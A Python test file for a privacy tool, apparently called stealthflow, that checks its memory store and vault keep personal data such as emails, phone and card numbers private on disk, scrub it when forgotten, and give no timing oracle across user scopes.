def test_the_memory_store_files_are_private(tmp_path, monkeypatch):
    from stealthflow.memory import MemoryStore
    from stealthflow.testing.vectors import hash_vectors as fake_embed  # FAKE embedder

    old = os.umask(0o022)
    try:
        protector = make_protector(protect_config(tmp_path, monkeypatch))
        store = MemoryStore(tmp_path / "memory.sqlite", protector, embed=fake_embed)
        store.append("alice", PERSONAL_TEXT)
        modes = {
            p.name: oct(p.stat().st_mode & 0o777)
            for p in tmp_path.iterdir()
            if p.name.startswith(("memory.sqlite", "vault.sqlite"))
        }
        store.close()
        protector.close()
    finally:
        os.umask(old)
    assert {"memory.sqlite", "memory.sqlite-wal", "vault.sqlite", "vault.sqlite-wal"} <= set(modes)
    assert set(modes.values()) == {"0o600"}, modes


def test_the_vault_log_is_cut_back_after_a_burst(tmp_path, monkeypatch):
    """Writes while a reader holds the log grow it; once the reader is gone the next checkpoint
    truncates it (the limit is made small here to keep the test quick)."""
    from stealthflow.placeholders import vault as vault_module

    monkeypatch.setattr(vault_module._Checkpoints, "wal_limit", 256 * 1024, raising=False)
    config = protect_config(tmp_path, monkeypatch)
    with Vault(config.vault_path, load_keys("env")) as vault:
        reader = sqlite3.connect(config.vault_path)
        reader.execute("BEGIN")
        reader.execute("SELECT COUNT(*) FROM entries").fetchone()  # holds a snapshot: no checkpoint can finish
        for i in range(300):
            vault.entries_for("u", "s", [("EMAIL", f"user{i}-{j}@mailbox.org") for j in range(5)])
        wal = tmp_path / "vault.sqlite-wal"
        assert wal.stat().st_size > 1024 * 1024
        reader.rollback()
        reader.close()
        vault.entry_for("u", "s", "EMAIL", "last@mailbox.org")  # a write wakes the checkpoint thread
        deadline = time.monotonic() + 10
        while wal.stat().st_size > 256 * 1024 and time.monotonic() < deadline:
            time.sleep(0.1)
        assert wal.stat().st_size <= 256 * 1024


# -- memory.sqlite at rest: no digest to guess values from, no metadata in clear -------------------------
def _memory_cli(tmp_path, monkeypatch):
    """The real `stealthflow memory` command on a real SQLite store (tmp_path/m.sqlite; FAKE embedder)."""
    from typer.testing import CliRunner

    from stealthflow.cli import app
    from stealthflow.memory import store as memory_store
    from stealthflow.testing.vectors import hash_vectors

    monkeypatch.setattr(memory_store, "minilm_embedder", lambda: hash_vectors)
    config = protect_config(tmp_path, monkeypatch)
    (tmp_path / "c.yaml").write_text(
        f"protect:\n  vault_path: {config.vault_path}\n  key_source: env\n  tagger: false\n"
    )
    common = ["--store", str(tmp_path / "m.sqlite"), "--config", str(tmp_path / "c.yaml")]
    return lambda *args, **kwargs: CliRunner().invoke(app, ["memory", *args, *common], **kwargs)


def _store_bytes(tmp_path) -> bytes:
    return b"".join(path.read_bytes() for path in tmp_path.glob("m.sqlite*"))


def test_memory_input_digests_are_keyed_and_forget_removes_them(tmp_path, monkeypatch):
    """`memory append -i` keeps a digest of each input line to resume after a crash: keyed with the vault key, so
    memory.sqlite alone gives no way to confirm a guess of the line (an unkeyed SHA-256 did, phone number and all);
    the metadata of a row is stored protected; `forget --all` leaves no digest behind."""
    import hashlib

    memory = _memory_cli(tmp_path, monkeypatch)
    line = json.dumps({"user": "ann", "text": "Call me on 0151 2345 6789", "metadata": {"from": "ann.lee@mailbox.org"}})
    (tmp_path / "in.jsonl").write_text(line + "\n")
    assert memory("append", "-i", str(tmp_path / "in.jsonl")).exit_code == 0
    stored = _store_bytes(tmp_path)
    assert hashlib.sha256((line + "\n").encode()).hexdigest().encode() not in stored
    assert b"0151 2345 6789" not in stored and b"ann.lee@mailbox.org" not in stored
    (keyed,) = _line_digests(tmp_path)
    assert keyed.encode() in stored
    listed = json.loads(memory("list", "--user", "ann", "--json").stdout)
    assert listed["text"] == "Call me on <PHONE_1>" and listed["metadata"] == {"from": "ann.lee@mailbox.org"}
    again = memory("append", "-i", str(tmp_path / "in.jsonl"))
    assert again.stdout == "" and "1 line(s)" in again.stderr  # the keyed digest still resumes
    assert memory("forget", "--user", "ann", "--all").exit_code == 0
    assert keyed.encode() not in _store_bytes(tmp_path)


def _line_digests(tmp_path) -> list[str]:
    with contextlib.closing(sqlite3.connect(tmp_path / "m.sqlite")) as db:
        return [line for (line,) in db.execute("SELECT line FROM line_digests")]


def test_memory_forget_leaves_nothing_in_the_file_while_another_connection_reads_the_store(tmp_path, monkeypatch):
    """`memory forget` scrubs the store's write-ahead log as the vault's forget does: with another connection open (a
    service reading the store), the deleted rows' old pages stayed in memory.sqlite until the last connection closed."""
    memory = _memory_cli(tmp_path, monkeypatch)
    (tmp_path / "in.jsonl").write_text(json.dumps({"user": "ann", "text": "Call me on 0151 2345 6789"}) + "\n")
    assert memory("append", "-i", str(tmp_path / "in.jsonl")).exit_code == 0
    (keyed,) = _line_digests(tmp_path)
    with contextlib.closing(sqlite3.connect(tmp_path / "m.sqlite")) as reader:
        assert reader.execute("SELECT count(*) FROM memories").fetchone() == (1,)
        assert memory("forget", "--user", "ann", "--all").exit_code == 0
        assert keyed.encode() not in _store_bytes(tmp_path)


def test_a_store_with_unkeyed_input_digests_is_rekeyed_on_open_and_still_resumes(tmp_path, monkeypatch):
    """A memory.sqlite written by an earlier version (table `imported`, unkeyed SHA-256 of the input up to each
    line): opening it keys the digests of the memories it still holds, drops the others and the table, and
    `append -i` of the same input still skips its lines."""
    import hashlib

    memory = _memory_cli(tmp_path, monkeypatch)
    lines = [json.dumps({"user": user, "text": f"Call me on 0151 2345 678{n}"}) + "\n" for n, user in enumerate("aab")]
    (tmp_path / "in.jsonl").write_text("".join(lines))
    assert memory("append", "-i", str(tmp_path / "in.jsonl")).exit_code == 0
    unkeyed = [hashlib.sha256("".join(lines[: n + 1]).encode()).hexdigest() for n in range(3)]
    with contextlib.closing(sqlite3.connect(tmp_path / "m.sqlite")) as db, db:  # as the earlier version left it
        db.execute("DELETE FROM line_digests")
        db.execute("CREATE TABLE imported (line TEXT PRIMARY KEY, memory_id INTEGER NOT NULL)")
        db.executemany("INSERT INTO imported VALUES (?, ?)", [(digest, n + 1) for n, digest in enumerate(unkeyed)])
        db.execute("INSERT INTO imported VALUES (?, 99)", ("0" * 64,))  # its memory was forgotten
    assert memory("forget", "--user", "b", "--all").exit_code == 0  # opens (and re-keys) the store
    again = memory("append", "-i", str(tmp_path / "in.jsonl"))
    assert "2 line(s)" in again.stderr and again.stdout.count("\n") == 1  # b's line, forgotten, is appended again
    with contextlib.closing(sqlite3.connect(tmp_path / "m.sqlite")) as db:
        tables = {name for (name,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
        assert "imported" not in tables and db.execute("SELECT COUNT(*) FROM line_digests").fetchone() == (3,)
    stored = _store_bytes(tmp_path)
    assert not any(digest.encode() in stored for digest in [*unkeyed, "0" * 64])


def test_memory_metadata_is_protected_in_the_users_scope_and_hydrated_on_read(tmp_path, monkeypatch):
    """`POST /memory/append` (the service under uvicorn, a real HTTP client, a real SQLite store; FAKE embedder):
    metadata values get the same placeholders as the text in the user's scope, memory.sqlite holds none of them,
    `list` hydrates them, and forgetting the memory forgets the values only its metadata named."""
    from stealthflow.memory import MemoryStore
    from stealthflow.testing.vectors import hash_vectors as fake_embed  # FAKE embedder

    protector = make_protector(protect_config(tmp_path, monkeypatch))
    store = MemoryStore(tmp_path / "m.sqlite", protector, embed=fake_embed)
    metadata = {
        "from": "ann.lee@mailbox.org",
        "note": "card 4716 2830 5914 4476",
        "thread": ["re: lunch", {"cc": "bo.berg@mailbox.org"}],
        "priority": 2,
    }
    try:
        with serve(create_app(protector, TOKEN, memory=store)) as port:
            reply = httpx.post(
                f"http://127.0.0.1:{port}/memory/append",
                headers={"Authorization": f"Bearer {TOKEN}"},
                json={"user": "ann", "text": "Mail me at ann.lee@mailbox.org", "metadata": metadata},
            )
        assert reply.status_code == 200 and reply.json()["text"] == "Mail me at <EMAIL_1>"
        stored = _store_bytes(tmp_path)
        for value in ("ann.lee@mailbox.org", "4716 2830 5914 4476", "bo.berg@mailbox.org"):
            assert value.encode() not in stored
        kept = json.loads(sqlite3.connect(tmp_path / "m.sqlite").execute("SELECT metadata FROM memories").fetchone()[0])
        assert kept["from"] == "<EMAIL_1>" and kept["thread"][0] == "re: lunch" and kept["priority"] == 2
        (item,) = store.list("ann")
        assert item.metadata == metadata and item.text == "Mail me at <EMAIL_1>"
        card = re.search(r"<[A-Z_]+_\d+>", kept["note"])[0]
        assert held(store, "ann", card) == "4716 2830 5914 4476"
        assert held(store, "bo", card) == card  # another user's scope holds none of them
        store.forget("ann", item.id)
        assert held(store, "ann", card) == card  # the value only the metadata named is forgotten too
    finally:
        store.close()
        protector.close()


def test_the_detection_cache_answers_a_text_only_to_the_scope_that_sent_it(tmp_path, monkeypatch):
    """A text another session protected is detected afresh (no faster: no timing oracle across scopes); one the
    same session sends again (a chat's re-sent history) comes from the cache. The real Detector and recognizers,
    their detection runs counted."""
    protector = make_protector(protect_config(tmp_path, monkeypatch))
    detected, real = [], protector.detector._deterministic
    protector.detector._deterministic = lambda texts, models=True: (detected.extend(texts), real(texts, models))[1]
    try:
        victim = protector.protect(PERSONAL_TEXT, "victim")
        assert protector.protect(PERSONAL_TEXT, "victim").text == victim.text
        assert detected == ["victim", PERSONAL_TEXT]  # the session's name is read once (`Protector.refuse_values`)
        prober = protector.protect(PERSONAL_TEXT, "prober")
        assert detected == ["victim", PERSONAL_TEXT, "prober", PERSONAL_TEXT] and prober.text == victim.text
    finally:
        protector.close()
